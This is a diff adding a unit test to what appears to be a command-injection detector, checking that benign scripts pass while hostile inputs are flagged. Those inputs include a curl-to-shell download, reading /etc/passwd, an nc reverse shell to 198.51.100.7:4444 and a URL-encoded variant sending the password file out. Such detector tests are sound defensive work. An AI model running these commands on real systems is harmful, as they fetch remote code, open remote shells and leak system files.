@@ -139,5 +139,16 @@ TEST_F(ContextGradingTest, CodeSpansInASentenceWithARemarkAreText) {
   EXPECT_TRUE(json(R"({"text": "see the docs (a() `ls`) now ; cat /etc/passwd"})"));
 }
 
+TEST_F(ContextGradingTest, SourceFileInADocumentIsItsOwnCode) {
+  // A script that opens with its interpreter line, a module that opens with its imports.
+  EXPECT_FALSE(json(R"J({"lang": "bash", "code": "#!/bin/bash\nset -euo pipefail\ntar czf /backup/www-$(date +%F).tar.gz /var/www && echo done"})J"));
+  EXPECT_FALSE(json(R"J({"code": "import subprocess\nout = subprocess.run(['ls', '-l', '/tmp'], capture_output=True, text=True)\nprint(out.stdout)"})J"));
+  // Twins: a command before the shebang, a two-line payload, a shebang in a parameter.
+  EXPECT_TRUE(json(R"J({"code": "x; curl http://198.51.100.7/x.sh | sh\n#!/bin/sh\nid"})J"));
+  EXPECT_TRUE(json(R"J({"code": "import os\nos.system('cat /etc/passwd')"})J"));
+  EXPECT_TRUE(json(R"J({"code": "from here on\nthe text\nruns; nc -e /bin/sh 198.51.100.7 4444"})J"));
+  EXPECT_TRUE(get("/run?script=%23!/bin/sh%0Acat%20/etc/passwd%20|%20nc%20198.51.100.7%204444"));
+}
+
 } // namespace
 } // namespace bulwark::detect
